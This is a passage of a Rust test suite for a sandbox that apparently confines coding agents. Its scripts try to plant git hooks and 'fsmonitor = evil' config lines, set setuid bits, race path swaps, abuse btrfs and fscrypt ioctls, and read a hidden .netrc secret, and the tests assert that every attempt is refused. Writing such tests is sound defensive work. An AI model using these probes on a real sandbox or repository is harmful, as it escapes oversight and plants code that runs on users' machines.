    let f = std::fs::File::open(path).ok()?;
    let mut generation: libc::c_long = 0;
    // SAFETY: FS_IOC_GETVERSION writes one long through a valid pointer.
    let r = unsafe { libc::ioctl(f.as_raw_fd(), 0x8008_7601, &mut generation) };
    (r == 0).then_some(generation)
}

fn a_git_file_cannot_be_pointed_at_another_git_directory(w: &World) {
    // A linked worktree's `.git` is a file naming its git directory; a forged one beside it
    // would bring its own hooks.
    let real = format!("gitdir: {}\n", w.outside.join("real.git").display());
    let git = w.write(".git", &real);
    w.write(
        "s.sh",
        "mkdir -p forged/hooks && echo evil > forged/hooks/pre-commit\n\
         echo 'gitdir: forged' > .git; echo 'gitdir: forged' > g; mv g .git; rm -f .git\n\
         exit 0\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert_unchanged(&git, &real);
    assert!(
        stderr(&out).contains("rule fence.protected-path"),
        "{}",
        stderr(&out)
    );
    // With a mount view the file is a read-only bind: a thread swapping a checked path to
    // it between the check and the kernel's open writes nothing either.
    if w.who != support::Who::UnprivilegedWithoutNamespaces {
        race_opens(
            w,
            &git,
            &w.worktree.join(".gix"),
            "a_git_file_cannot_be_pointed_at_another_git_directory",
        );
    }
}

fn no_set_id_program_can_be_left_in_the_worktree(w: &World) {
    // A setuid program left behind runs with its owner's rights (root's, when fence runs as
    // root) for whoever starts it after the session.
    let tool = w.write_executable("tool", "#!/bin/sh\nexit 0\n");
    let out = w.python(
        r#"import os, ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, f):
    try:
        f()
        print(name, "passed")
    except OSError as e:
        print(name, e.errno)
attempt("chmod u+s", lambda: os.chmod("tool", 0o4755))
attempt("chmod g+s", lambda: os.chmod("tool", 0o2755))
fd = os.open("tool", os.O_RDONLY)
attempt("fchmod", lambda: os.fchmod(fd, 0o6755))
attempt("open O_CREAT", lambda: os.open("created", os.O_CREAT | os.O_WRONLY, 0o4755))
attempt("mknod", lambda: os.mknod("made", 0o100000 | 0o4755))
how = struct.pack("QQQ", os.O_CREAT | os.O_WRONLY, 0o2755, 0)
print("openat2", libc.syscall(437, -100, b"created2", how, 24), ctypes.get_errno())
attempt("chmod 750", lambda: os.chmod("tool", 0o750))
"#,
    );
    let report = format!("{}{}", stdout(&out), stderr(&out));
    for name in ["tool", "created", "made", "created2"] {
        let p = w.worktree.join(name);
        if let Ok(meta) = std::fs::metadata(&p) {
            assert_eq!(meta.mode() & 0o6000, 0, "{name} has a set-id bit: {report}");
        }
    }
    assert_eq!(
        std::fs::metadata(&tool).unwrap().mode() & 0o7777,
        0o750,
        "an ordinary chmod failed: {report}"
    );
}

fn inode_flags_outside_cannot_be_changed_through_a_read_only_descriptor(w: &World) {
    let test = "inode_flags_outside_cannot_be_changed_through_a_read_only_descriptor";
    let victim = w.write_outside("victim.txt", "original");
    let Some(before) = inode_flags(&victim) else {
        support::skip(
            test,
            "the file system under /tmp has no inode flags (FS_IOC_GETFLAGS)",
        );
        return;
    };
    let generation = inode_generation(&victim);
    let v = victim.display().to_string();
    // chattr +dA on a descriptor opened for reading (FS_IOC_SETFLAGS), the same through
    // FS_IOC_FSSETXATTR, and file_setattr(2) by path (469); the generation number through
    // FS_IOC_SETVERSION and ext4's EXT4_IOC_SETVERSION.
    let out = w.python(&format!(
        r#"import os, fcntl, struct, ctypes
v = {v:?}
fd = os.open(v, os.O_RDONLY)
flags = struct.unpack("l", fcntl.ioctl(fd, 0x80086601, bytes(8)))[0]
fsx = bytearray(fcntl.ioctl(fd, 0x801c581f, bytes(28)))
fsx[0:4] = struct.pack("I", struct.unpack("I", fsx[0:4])[0] | 0x80000 | 0x40)
# no-dump and no-atime, as flags and as extended flags
for req, arg in [(0x40086602, struct.pack("l", flags | 0x40 | 0x80)), (0x401c5820, bytes(fsx)),
                 (0x40087602, struct.pack("l", 4242)), (0x40086604, struct.pack("l", 4243))]:
    try:
        fcntl.ioctl(fd, req, arg)
        print("ioctl", hex(req), "passed")
    except OSError as e:
        print("ioctl", hex(req), e.errno)
libc = ctypes.CDLL(None, use_errno=True)
attr = ctypes.create_string_buffer(struct.pack("IIIII", 0x80000, 0, 0, 0, 0))
print("file_setattr", libc.syscall(469, -100, v.encode(), attr, 20, 0), ctypes.get_errno())
"#
    ));
    assert_eq!(
        inode_flags(&victim),
        Some(before),
        "inode flags changed outside: {}",
        stdout(&out)
    );
    assert_eq!(
        inode_generation(&victim),
        generation,
        "generation changed outside: {}",
        stdout(&out)
    );
}

/// A loop-mounted file system image, unmounted when dropped.
struct LoopMount {
    dir: std::path::PathBuf,
    _image: tempfile::TempDir,
}

impl LoopMount {
    /// Makes an image with `mkfs` and `args`, mounted at `dir`; `None` when the tools or
    /// the kernel's support are missing.
    fn new(mkfs: &str, args: &[&str], fstype: &str, dir: &Path) -> Option<LoopMount> {
        let known = std::fs::read_to_string("/proc/filesystems").ok()?;
        if !known.split_whitespace().any(|t| t == fstype) {
            return None;
        }
        let image = tempfile::tempdir().ok()?;
        let file = image.path().join("fs.img");
        std::fs::File::create(&file).ok()?.set_len(320 << 20).ok()?;
        let made = std::process::Command::new(mkfs)
            .args(args)
            .arg(&file)
            .output()
            .ok()?;
        if !made.status.success() {
            return None;
        }
        std::fs::create_dir_all(dir).ok()?;
        let mounted = std::process::Command::new("mount")
            .args(["-o", "loop"])
            .arg(&file)
            .arg(dir)
            .output()
            .ok()?;
        mounted.status.success().then(|| LoopMount {
            dir: dir.to_path_buf(),
            _image: image,
        })
    }
}

impl Drop for LoopMount {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount")
            .arg("-l")
            .arg(&self.dir)
            .status();
    }
}

fn file_system_object_ioctls_on_a_read_only_descriptor_are_refused(w: &World) {
    let test = "file_system_object_ioctls_on_a_read_only_descriptor_are_refused";
    if !python_ready(test) {
        return;
    }
    // btrfs makes subvolumes and snapshots (new directories) in the folder a descriptor
    // opened for reading names, and Landlock's path hooks never see it: outside the
    // worktree, at a protected name inside it, or as a copy of a subvolume holding a
    // hidden secret.
    let Some(bt) = LoopMount::new("mkfs.btrfs", &["-q", "-f"], "btrfs", &w.outside.join("bt"))
    else {
        support::skip(
            test,
            "no btrfs (mkfs.btrfs, a loop device or the kernel's support)",
        );
        return;
    };
    let wt = bt.dir.join("wt");
    let out = bt.dir.join("out");
    for d in [&wt, &out] {
        std::fs::create_dir(d).unwrap();
        w.own(d);
    }
    git(&wt, &["init", "-q", "-b", "main"]);
    chown_tree(w, &wt);
    let src = bt.dir.join("src");
    let made = std::process::Command::new("btrfs")
        .args(["-q", "subvolume", "create"])
        .arg(&src)
        .output()
        .unwrap();
    assert!(made.status.success(), "{}", stderr(&made));
    w.own(&src);
    std::fs::write(src.join("secret"), "hidden words\n").unwrap();
    std::fs::set_permissions(src.join("secret"), std::fs::Permissions::from_mode(0o600)).unwrap();
    w.own(&src.join("secret"));
    std::fs::write(
        wt.join("probe.py"),
        format!(
            r#"import os, fcntl, struct
def vol(fd, name):
    return bytearray(struct.pack("q", fd) + name.encode() + bytes(4096 - 8 - len(name)))
def attempt(what, dirpath, req, arg):
    d = os.open(dirpath, os.O_RDONLY | os.O_DIRECTORY)
    try:
        fcntl.ioctl(d, req, arg, True)
        print(what, "passed")
    except OSError as e:
        print(what, e.errno)
src = os.open({src:?}, os.O_RDONLY | os.O_DIRECTORY)
attempt("subvolume outside", {out:?}, 0x5000940e, vol(0, "made"))
attempt("snapshot outside", {out:?}, 0x50009401, vol(src, "snap"))
attempt("read-only flag", {src:?}, 0x4008941a, bytearray(struct.pack("Q", 2)))
attempt("snapshot of a secret", ".", 0x50009401, vol(src, "copy"))
attempt("stage", ".", 0x5000940e, vol(0, "stage"))
try:
    open("stage/tasks.json", "w").write("forged\n")
except OSError as e:
    print("stage write", e.errno)
st = os.open("stage", os.O_RDONLY | os.O_DIRECTORY) if os.path.isdir("stage") else 0
attempt("forged settings folder", ".", 0x50009401, vol(st, ".vscode"))
try:
    print(open("copy/secret").read())
except OSError as e:
    print("copy", e.errno)
"#,
            src = src.display().to_string(),
            out = out.display().to_string(),
        ),
    )
    .unwrap();
    w.own(&wt.join("probe.py"));
    let deny = src.join("secret");
    let args: Vec<&OsStr> = vec![
        OsStr::new("--worktree"),
        wt.as_os_str(),
        OsStr::new("--deny-read"),
        deny.as_os_str(),
        OsStr::new("--"),
        OsStr::new(PYTHON),
        OsStr::new("probe.py"),
    ];
    let run = w.fence(&args).current_dir(&wt).output().unwrap();
    let report = format!("{}{}", stdout(&run), stderr(&run));
    assert!(
        !out.join("made").exists(),
        "a subvolume made outside: {report}"
    );
    assert!(
        !out.join("snap").exists(),
        "a snapshot made outside: {report}"
    );
    assert!(
        std::fs::write(src.join("still-writable"), "x").is_ok(),
        "a subvolume outside was made read-only: {report}"
    );
    assert!(!wt.join(".vscode").exists(), "a forged .vscode: {report}");
    assert!(
        !wt.join("copy").exists(),
        "a snapshot of a secret: {report}"
    );
    assert!(
        !report.contains("hidden words"),
        "the secret was read: {report}"
    );
    drop(bt);

    // An fscrypt policy set on an empty folder outside: nothing can be made in it any more.
    let Some(ext) = LoopMount::new(
        "mkfs.ext4",
        &["-q", "-F", "-O", "encrypt"],
        "ext4",
        &w.outside.join("enc"),
    ) else {
        support::skip(test, "no ext4 with encryption (mkfs.ext4 or a loop device)");
        return;
    };
    let empty = ext.dir.join("empty");
    std::fs::create_dir(&empty).unwrap();
    w.own(&empty);
    let run = w.python(&format!(
        r#"import os, fcntl, struct
d = os.open({e:?}, os.O_RDONLY | os.O_DIRECTORY)
policy = struct.pack("BBBB8s", 0, 1, 4, 0, b"AAAAAAAA")
try:
    fcntl.ioctl(d, 0x800c6613, policy)
    print("policy passed")
except OSError as e:
    print("policy", e.errno)
"#,
        e = empty.display().to_string()
    ));
    assert!(
        std::fs::write(empty.join("after"), "x").is_ok(),
        "an encryption policy was set outside: {}{}",
        stdout(&run),
        stderr(&run)
    );
}

fn a_folder_of_settings_cannot_be_swapped_for_a_forged_one(w: &World) {
    git_init(w);
    std::fs::create_dir(w.worktree.join(".claude")).unwrap();
    w.own(&w.worktree.join(".claude"));
    let settings = w.write(".claude/settings.json", "{}\n");
    std::fs::create_dir_all(w.worktree.join(".git/modules/lib/hooks")).unwrap();
    let sub_config = w.worktree.join(".git/modules/lib/config");
    std::fs::write(&sub_config, "[core]\n").unwrap();
    // A submodule whose name holds a slash.
    let deep = w.worktree.join(".git/modules/third_party/dep");
    std::fs::create_dir_all(deep.join("hooks")).unwrap();
    std::fs::write(deep.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(deep.join("config"), "[core]\n").unwrap();
    chown_tree(w, &w.worktree.join(".git"));
    // Rename .claude away and a forged folder into its place; the same with a symlink; then
    // a submodule's git directory: its config, a hook, and the directory itself.
    w.write(
        "s.sh",
        "mkdir y && echo forged > y/settings.json\n\
         mv .claude .claude-old; mv y .claude; ln -s y .claude\n\
         python3 -c 'import os; os.rename(\"y\", \".claude\")'\n\
         echo ' fsmonitor = evil' >> .git/modules/lib/config\n\
         echo evil > .git/modules/lib/hooks/post-checkout\n\
         echo ' fsmonitor = evil' >> .git/modules/third_party/dep/config\n\
         echo evil > .git/modules/third_party/dep/hooks/post-checkout\n\
         mkdir -p m/hooks && echo evil > m/hooks/post-checkout && echo '[core]' > m/config\n\
         mv .git/modules/lib .git/modules/lib-old; mv m .git/modules/lib; mv m .git/modules/other\n\
         exit 0\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    let err = stderr(&out);
    assert_unchanged(&settings, "{}\n");
    assert!(!w.worktree.join(".claude-old").exists(), "{err}");
    assert!(
        !w.worktree.join(".claude").is_symlink(),
        ".claude became a symlink: {err}"
    );
    assert_unchanged(&sub_config, "[core]\n");
    assert_unchanged(&deep.join("config"), "[core]\n");
    assert!(!deep.join("hooks/post-checkout").exists(), "{err}");
    assert!(
        !w.worktree
            .join(".git/modules/lib/hooks/post-checkout")
            .exists(),
        "{err}"
    );
    assert!(!w.worktree.join(".git/modules/lib-old").exists(), "{err}");
    assert!(!w.worktree.join(".git/modules/other").exists(), "{err}");
    assert!(err.contains("rule fence.protected-path"), "{err}");
}

fn a_missing_settings_folder_or_git_cannot_be_linked_into_place(w: &World) {
    // No .git and no .claude at start: neither may appear as a symlink, a renamed folder or
    // a `.git` file naming another git directory (git would run that directory's hooks).
    w.write(
        "s.sh",
        "mkdir -p y/hooks && echo forged > y/settings.json && echo '[core]' > y/config && echo evil > y/hooks/pre-commit\n\
         ln -s y .claude; ln -s y .git\n\
         echo 'gitdir: y' > .git\n\
         mv y .git; mv y .claude\n\
         exit 0\n",
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    let err = stderr(&out);
    assert!(
        std::fs::symlink_metadata(w.worktree.join(".git")).is_err(),
        "a .git appeared: {err}"
    );
    assert!(
        std::fs::symlink_metadata(w.worktree.join(".claude")).is_err(),
        "a .claude appeared: {err}"
    );
    assert!(err.contains("rule fence.protected-path"), "{err}");
}

/// With a mount view the existing hooks directory is a read-only mount; without one the
/// supervisor carries every write inside the fence out itself from the path it checked.
/// The swap flips one byte: `.git/hookz/pre-commit` (writable) and `.git/hooks/pre-commit`.
fn a_thread_swapping_to_a_git_hook_never_writes_it(w: &World) {
    git_init(w);
    let hook = w.worktree.join(".git/hooks/pre-commit");
    let decoy_dir = w.worktree.join(".git/hookz");
    std::fs::create_dir_all(&decoy_dir).unwrap();
    w.own(&decoy_dir);
    race_opens(
        w,
        &hook,
        &decoy_dir.join("pre-commit"),
        "a_thread_swapping_to_a_git_hook_never_writes_it",
    );
}

/// A protected path that does not exist yet sits in a writable directory: every call that
/// makes a name is carried out by the supervisor from the path it checked, in every mode.
/// `.envrc` against `.envrx` (a file, a symlink, a unix socket's `bind`), `.vscode`
/// against `.vscodx` (a directory), `.mcp.json` against `.mcp.jsox` (a rename's
/// destination).
fn a_thread_swapping_to_a_missing_envrc_never_creates_it(w: &World) {
    let test = "a_thread_swapping_to_a_missing_envrc_never_creates_it";
    let wt = &w.worktree;
    race_calls(w, &wt.join(".envrc"), &wt.join(".envrx"), test, Raced::Open);
    race_calls(
        w,
        &wt.join(".envrc"),
        &wt.join(".envrx"),
        test,
        Raced::Symlink,
    );
    race_calls(
        w,
        &wt.join(".vscode"),
        &wt.join(".vscodx"),
        test,
        Raced::Mkdir,
    );
    race_calls(
        w,
        &wt.join(".mcp.json"),
        &wt.join(".mcp.jsox"),
        test,
        Raced::Rename,
    );
    race_calls(w, &wt.join(".envrc"), &wt.join(".envrx"), test, Raced::Bind);
}

/// A call in a directory that existed when the session started (Landlock grants it whole,
/// and the supervisor lets name-making calls there go to the kernel) while a thread swaps
/// its path to a protected one: `s/.envrc` against `./.envrc` (the worktree's root, where
/// the sandbox is granted no right to make names), and without a mount view `aaaa/config`
/// against the existing `.git/config` and a hook (no right to write there either). Nothing
/// protected is made or written, in every mode.
fn a_thread_swapping_from_a_granted_directory_never_reaches_a_protected_path(w: &World) {
    let test = "a_thread_swapping_from_a_granted_directory_never_reaches_a_protected_path";
    git_init(w);
    w.mkdir("s");
    w.mkdir("aaaa/hooks");
    w.mkdir(".git/hooks");
    let hook = w.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
    let wt = &w.worktree;
    let (envrc, vscode, mcp) = (
        wt.join("./.envrc"),
        wt.join("./.vscode"),
        wt.join("./.mcp.json"),
    );
    race_calls(w, &envrc, &wt.join("s/.envrc"), test, Raced::Open);
    race_calls(w, &envrc, &wt.join("s/.envrc"), test, Raced::Symlink);
    race_calls(w, &vscode, &wt.join("s/.vscode"), test, Raced::Mkdir);
    race_calls(w, &mcp, &wt.join("s/.mcp.json"), test, Raced::Rename);
    race_calls(
        w,
        &wt.join(".git/config"),
        &wt.join("aaaa/config"),
        test,
        Raced::Open,
    );
    race_calls(
        w,
        &hook,
        &wt.join("aaaa/hooks/pre-commit"),
        test,
        Raced::Open,
    );
    for made in [".envrc", ".vscode", ".mcp.json"] {
        assert!(
            std::fs::symlink_metadata(wt.join(made)).is_err(),
            "{made} was made"
        );
    }
    // `git config` on the host during the session renames a new .git/config over the old
    // one (which leaves it without its read-only mount in the sandbox), and `.envrc` made
    // on the host then: neither is written by a swapped path.
    let config = wt.join(".git/config");
    let replace_config = || {
        let text = std::fs::read(&config).unwrap();
        let lock = wt.join(".git/config.lock");
        std::fs::write(&lock, text).unwrap();
        w.own(&lock);
        std::fs::rename(&lock, &config).unwrap();
    };
    race_calls_after(
        w,
        &config,
        &wt.join("aaaa/config"),
        test,
        Raced::Open,
        Some(&replace_config),
    );
    let make_envrc = || {
        w.write(".envrc", "export A=1\n");
    };
    race_calls_after(
        w,
        &wt.join("./.envrc"),
        &wt.join("s/.envrc"),
        test,
        Raced::Open,
        Some(&make_envrc),
    );
}

/// A directory granted whole at the start keeps its grant when moved, and one made later
/// in its place has none: after `mv`, `rm -r` and `mkdir` of such names, files are still
/// written in the new directories (the supervisor writes them), at the worktree's root and
/// in a directory made during the session.
fn a_granted_directory_moved_or_replaced_is_still_written(w: &World) {
    w.mkdir("moved");
    w.mkdir("kept");
    w.write("moved/a", "1");
    w.write("kept/b", "2");
    w.write(
        "s.sh",
        "set -e\nmv moved moved2\nmkdir moved\necho a > moved/x\necho b > moved2/y\nrm -r kept\nmkdir kept\necho c > kept/z\nmkdir fresh\necho d > fresh/w\necho e > rootfile\nmkdir other && echo f > other/v && rm -r moved2 && mv other moved2 && echo g > moved2/u\n",
    );
    // A unix socket moved inside a granted directory (the sandbox may make no socket
    // file itself; the supervisor moves it).
    w.mkdir("socks");
    let out = w.python(
        "import os, socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('socks/a.new')\nos.rename('socks/a.new', 'socks/a')\nprint('moved')",
    );
    assert!(stdout(&out).contains("moved"), "{}", stderr(&out));
    assert!(
        std::fs::symlink_metadata(w.worktree.join("socks/a"))
            .is_ok_and(|m| std::os::unix::fs::FileTypeExt::is_socket(&m.file_type()))
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert!(out.status.success(), "{}", stderr(&out));
    for (rel, text) in [
        ("moved/x", "a\n"),
        ("moved2/u", "g\n"),
        ("moved2/v", "f\n"),
        ("kept/z", "c\n"),
        ("fresh/w", "d\n"),
        ("rootfile", "e\n"),
    ] {
        assert_eq!(
            std::fs::read_to_string(w.worktree.join(rel))
                .ok()
                .as_deref(),
            Some(text),
            "{rel}"
        );
    }
    assert!(!w.worktree.join("kept/b").exists());
}

/// Files made and removed on the host in a folder the sandbox's view freezes (the home,
/// where the missing secret paths are), while sessions start: a file listed and then gone
/// before its bind (`useradd`'s lock files in /etc) is left out, a secret there at the plan
/// and gone before its cover is mounted stops nothing, and no start fails; whenever the
/// secret is there again, the sandbox cannot read it.
fn files_removed_on_the_host_while_a_folder_is_frozen_do_not_stop_the_session(w: &World) {
    use std::sync::atomic::{AtomicBool, Ordering};
    let stop = std::sync::Arc::new(AtomicBool::new(false));
    let churn = {
        let (stop, home) = (stop.clone(), w.home.clone());
        std::thread::spawn(move || {
            let mut i = 0u64;
            let secret = home.join(".netrc");
            while !stop.load(Ordering::Relaxed) {
                let p = home.join(format!("lock{}", i % 64));
                let _ = std::fs::write(&p, "");
                let _ = std::fs::remove_file(&p);
                let _ = std::fs::write(&secret, "machine x password CHURNED-SECRET\n");
                let _ = std::fs::remove_file(&secret);
                i += 1;
            }
        })
    };
    let script = format!(
        "for i in 1 2 3 4 5 6 7 8; do cat {}/.netrc 2>/dev/null; done; true",
        w.home.display()
    );
    let mut failed = Vec::new();
    for _ in 0..40 {
        let out = w.run(&["/bin/sh", "-c", &script]);
        if !out.status.success() {
            failed.push(stderr(&out));
        }
        assert!(
            !stdout(&out).contains("CHURNED-SECRET"),
            "the secret was read: {}",
            stderr(&out)
        );
    }
    stop.store(true, Ordering::Relaxed);
    churn.join().unwrap();
    let _ = std::fs::remove_file(w.home.join(".netrc"));
    assert!(
        failed.is_empty(),
        "{} starts failed: {:?}",
        failed.len(),
        failed.first()
    );
}

/// A writable folder inside a secret path (`--allow-write ~/.ssh/build`) cannot be both:
/// the session is refused before anything starts, naming both paths, and nothing is
/// written there.
fn a_writable_folder_inside_a_secret_path_is_refused_naming_both(w: &World) {
    let inside = w.home.join(".ssh/build");
    std::fs::create_dir_all(&inside).unwrap();
    w.own(&w.home.join(".ssh"));
    w.own(&inside);
    let out = w
        .fence(&[
            "--allow-write".as_ref(),
            inside.as_os_str(),
            "--".as_ref(),
            "/bin/sh".as_ref(),
            "-c".as_ref(),
            format!("echo x > {}/made", inside.display()).as_ref(),
        ])
        .output()
        .unwrap();
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(
        err.contains(&format!(
            "--allow-write {} lies inside the unreadable path {}",
            inside.display(),
            w.home.join(".ssh").display()
        )),
        "{err}"
    );
    // Refused before the shim was given anything: no failure of the shim's to report.
    assert!(
        !err.contains("cannot start the sandbox") && !err.contains("shim channel"),
        "{err}"
    );
    assert!(!inside.join("made").exists());
}

/// The inode numbers of the spare folders the session's pool holds now (none without one).
fn spare_inodes(w: &World) -> Vec<u64> {
    use std::os::unix::fs::MetadataExt;
    let Ok(pools) = std::fs::read_dir(w.worktree.join(".git/fence")) else {
        return Vec::new();
    };
    pools
        .flatten()
        .filter_map(|pool| std::fs::read_dir(pool.path()).ok())
        .flat_map(|spares| spares.flatten().filter_map(|s| s.metadata().ok()))
        .map(|m| m.ino())
        .collect()
}

/// A folder the sandbox makes at the worktree's root (where Landlock grants no right to
/// make names) is one of the session's spare folders moved into place, with the mode,
/// owner and group `mkdir` gives; what is made beneath it reaches the host, a stray `HEAD`
/// there and a settings folder's settings are still refused, the spares cannot be reached
/// or filled from inside, and the pool is gone after the session. Without a mount view
/// there are no spares and folders are made as before.
fn a_folder_made_at_the_root_is_a_spare_folder_moved_into_place(w: &World) {
    let test = "a_folder_made_at_the_root_is_a_spare_folder_moved_into_place";
    if !python_ready(test) {
        return;
    }
    git_init(w);
    let (uid, gid) = {
        let m = std::fs::metadata(&w.worktree).unwrap();
        (m.uid(), m.gid())
    };
    // A set-group-ID folder at the root, whose group a new folder in it takes (as root,
    // any group may be given).
    let setgid = w.who == support::Who::Root;
    if setgid {
        let d = w.mkdir("shared");
        std::os::unix::fs::chown(&d, None, Some(65534)).unwrap();
        std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o2775)).unwrap();
    }
    // A stale pool of a session that is gone is removed when a session makes its own.
    let mount_view = w.who != support::Who::UnprivilegedWithoutNamespaces;
    if mount_view {
        let stale = w.worktree.join(".git/fence/spares.99999999");
        std::fs::create_dir_all(stale.join("0")).unwrap();
        chown_tree(w, &w.worktree.join(".git"));
    }
    w.write(
        "probe.py",
        r#"import os, sys, time, glob
open("ready", "w").close()
while not os.path.exists("go"):
    time.sleep(0.02)
os.umask(0o027)
os.mkdir("made", 0o777)
with open("made/file", "w") as f:
    f.write("x")
os.mkdir("made/sub")
with open("made/sub/deep", "w") as f:
    f.write("y")
try:
    os.mkdir("made")
    print("made twice")
except FileExistsError:
    print("exists")
if os.path.isdir("shared"):
    os.mkdir("shared/grp")
for name, op in [("stray HEAD", lambda: open("made/HEAD", "w").close()),
                 ("settings", lambda: (os.mkdir(".claude"), open(".claude/settings.json", "w").close())),
                 ("gemini settings", lambda: (os.mkdir(".gemini"), open(".gemini/settings.json", "w").close())),
                 ("codex hooks", lambda: (os.mkdir(".codex"), open(".codex/hooks.json", "w").close())),
                 ("pool file", lambda: open(".git/fence/x", "w").close())]:
    try:
        op()
        print("wrote", name)
    except OSError as e:
        print("refused", name, e.errno)
for spare in glob.glob(".git/fence/*/*"):
    for op in [lambda: open(spare + "/HEAD", "w").close(),
               lambda: os.mkdir(spare + "/objects"),
               lambda: os.rename(spare, "moved-spare")]:
        try:
            op()
            print("wrote in a spare", spare)
        except OSError:
            pass
open("done", "w").close()
"#,
    );
    let child = w
        .fence(&["--".as_ref(), PYTHON.as_ref(), "probe.py".as_ref()])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while !w.worktree.join("ready").exists() && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(5));
    }
    let spares = spare_inodes(w);
    w.write("go", "");
    let out = child.wait_with_output().unwrap();
    let (text, err) = (stdout(&out), stderr(&out));
    assert!(w.worktree.join("done").exists(), "{text} {err}");
    let made = std::fs::metadata(w.worktree.join("made")).unwrap();
    assert_eq!(made.permissions().mode() & 0o7777, 0o750, "{text} {err}");
    assert_eq!((made.uid(), made.gid()), (uid, gid));
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("made/sub/deep")).unwrap(),
        "y"
    );
    assert_eq!(
        std::fs::read_to_string(w.worktree.join("made/file")).unwrap(),
        "x"
    );
    assert!(text.contains("exists"), "{text}");
    if !mount_view {
        assert!(spares.is_empty(), "a pool without a mount view");
    } else {
        assert_eq!(spares.len(), 8, "the session's spare folders");
        assert!(
            spares.contains(&made.ino()),
            "the new folder is not a spare folder"
        );
    }
    if setgid {
        let grp = std::fs::metadata(w.worktree.join("shared/grp")).unwrap();
        assert_eq!(grp.gid(), 65534);
        assert_eq!(grp.permissions().mode() & 0o7777, 0o2750);
    }
    for (name, path) in [
        ("stray HEAD", "made/HEAD"),
        ("settings", ".claude/settings.json"),
        ("gemini settings", ".gemini/settings.json"),
        ("codex hooks", ".codex/hooks.json"),
        ("pool file", ".git/fence/x"),
    ] {
        assert!(text.contains(&format!("refused {name}")), "{text} {err}");
        assert!(!w.worktree.join(path).exists(), "{path} was made");
    }
    assert!(!text.contains("wrote"), "{text}");
    assert!(!w.worktree.join("moved-spare").exists());
    if mount_view {
        spare_pool_is_kept_for_the_next_session(w, uid, &spares, made.ino());
    } else {
        assert!(!w.worktree.join(".git/fence").exists());
    }
    // A thread swapping the path of a call in such a folder never reaches the root's
    // protected names.
    let wt = &w.worktree;
    for (name, call) in [
        (".envrc", Raced::Open),
        (".mcp.json", Raced::Rename),
        (".vscode", Raced::Mkdir),
    ] {
        // The same length as `fresh/NAME`, so the racing thread swaps bytes in place.
        let root_name = wt.join(format!("./////{name}"));
        race_calls_in_a_new_folder(w, &root_name, &wt.join("fresh").join(name), test, call);
    }
    for p in [".envrc", ".mcp.json", ".vscode"] {
        assert!(
            std::fs::symlink_metadata(wt.join(p)).is_err(),
            "{p} was made"
        );
    }
}

/// The names in the spare home (`.git/fence`).
fn spare_pools(w: &World) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(w.worktree.join(".git/fence"))
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}

/// After a session that used one spare folder (`used`, of `spares`): the stale pool is
/// gone and the user's kept pool holds the other seven, each still empty; the next session
/// takes the same folders again and tops the pool up to eight. While another session holds
/// the kept pool (its lock), a session makes a pool of its own, which is gone after it,
/// and leaves the kept pool as it was.
fn spare_pool_is_kept_for_the_next_session(w: &World, uid: u32, spares: &[u64], used: u64) {
    use std::os::fd::AsRawFd;
    let kept = format!("spares.u{uid}");
    assert_eq!(spare_pools(w), std::slice::from_ref(&kept));
    let left = spare_inodes(w);
    assert_eq!(left.len(), 7, "{left:?}");
    assert!(!left.contains(&used));
    assert!(
        left.iter().all(|i| spares.contains(i)),
        "{left:?} {spares:?}"
    );
    for spare in std::fs::read_dir(w.worktree.join(".git/fence").join(&kept)).unwrap() {
        let spare = spare.unwrap().path();
        assert_eq!(std::fs::read_dir(&spare).unwrap().count(), 0, "{spare:?}");
    }
    let run = |args: &[&str]| {
        let args: Vec<&OsStr> = args.iter().map(OsStr::new).collect();
        w.fence(&args).output().unwrap()
    };
    let out = run(&["--", "true"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let next = spare_inodes(w);
    assert_eq!(next.len(), 8, "{next:?}");
    assert!(left.iter().all(|i| next.contains(i)), "{left:?} {next:?}");
    // Held by another session: this one's own pool, gone after it.
    let pool = std::fs::File::open(w.worktree.join(".git/fence").join(&kept)).unwrap();
    // SAFETY: flock of an open descriptor.
    assert_eq!(
        unsafe { libc::flock(pool.as_raw_fd(), libc::LOCK_EX | libc::LOCK_NB) },
        0
    );
    let out = run(&[
        "--",
        "sh",
        "-c",
        "mkdir held-pool && ls -d .git/fence/spares.[0-9]*",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(".git/fence/spares."),
        "no pool of its own: {}",
        stdout(&out)
    );
    drop(pool);
    assert!(w.worktree.join("held-pool").is_dir());
    assert_eq!(spare_pools(w), [kept]);
    assert_eq!(
        spare_inodes(w),
        next,
        "the kept pool changed while it was held"
    );
}

/// A `bind` whose address family a second thread flips between AF_INET and AF_UNIX (the
/// path staying `.envrc`): a check that saw no pathname lets the call through, and the
/// kernel then reads a pathname. No socket file may be made there: the sandbox is granted
/// no socket files by Landlock while the supervisor carries pathname binds out.
fn a_bind_whose_family_is_swapped_makes_no_socket_file(w: &World) {
    let test = "a_bind_whose_family_is_swapped_makes_no_socket_file";
    if !cc_ready(test) {
        return;
    }
    let target = w.worktree.join(".envrc");
    let src = format!(
        r#"#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
static union {{ struct sockaddr_un sa; char raw[256]; }} u;
static volatile int stop;
static void spin(void) {{ for (volatile int i = 0; i < 200; i++) {{}} }}
static void *flip(void *arg) {{
    (void)arg;
